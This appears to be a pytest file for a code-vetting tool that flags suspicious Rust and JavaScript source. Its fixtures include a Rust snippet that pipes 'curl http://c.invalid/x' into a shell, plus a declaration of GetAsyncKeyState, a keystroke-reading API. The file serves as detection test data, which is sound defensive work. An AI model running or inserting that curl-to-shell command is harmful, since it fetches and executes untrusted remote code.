"""What a crate only declares or builds for its own tests, and what generated code says of itself."""

import pytest
from source_lab import Version, ids

from beartrap.vet.source_guards import GuardAnalyser

PIPED = 'fn g() { std::process::Command::new("sh").arg("-c").arg("curl http://c.invalid/x | sh").spawn(); }'
LINKED = '::windows_targets::link!("user32.dll" "system" #[doc = "k"] fn GetAsyncKeyState(vkey: i32) -> i16);\n'


@pytest.mark.parametrize("attributes", ["#[cfg(test)]", "#[cfg(test)]\n#[allow(dead_code)]"])
def test_what_is_built_for_tests_alone_runs_nowhere_else(attributes: str) -> None:
    assert "process.piped" not in ids("a.rs", f"{attributes}\nmod tests {{ {PIPED} }}")


@pytest.mark.parametrize("attribute", ["", "#[cfg(any(test, not(test)))]", "#[cfg(not(test))]", "// #[cfg(test)]\n"])
def test_other_modules_are_read(attribute: str) -> None:
    assert "process.piped" in ids("a.rs", f"{attribute}\nmod tests {{ {PIPED} }}")


def test_a_function_that_is_declared_is_not_called() -> None:
    assert "watch.user" not in ids("a.rs", LINKED)
    assert "watch.user" in ids("a.rs", LINKED + "fn f(v: i32) -> i16 { unsafe { GetAsyncKeyState(v) } }")
    assert "watch.user" in ids("a.rs", "run!(GetAsyncKeyState(8));")


def test_a_choice_among_nothing() -> None:
    assert ids("a.rs", "enum Never {}\nfn gone(x: Never) { std::env::vars(); match x {} }") is not None


@pytest.mark.parametrize(("line", "gaps"), [("// of revision 2", 0), ("x(2);", 1), ("/*\n// */ x(2);", 1)])
def test_files_of_which_only_remarks_are_other_ones_need_no_comparison(
    monkeypatch: pytest.MonkeyPatch, line: str, gaps: int
) -> None:
    monkeypatch.setattr("beartrap.vet.source_guards.MOST", 1_000)
    code = "{}\nfunction verify(a, b) {{ return timingSafeEqual(a, b); }}\n"
    old = Version({f"{number}.js": code.format("// of revision 1") for number in range(40)})
    new = Version({path: code.format(line) for path in old.paths}, trusted=old)
    assert len(list(GuardAnalyser().look(old, new))) == gaps
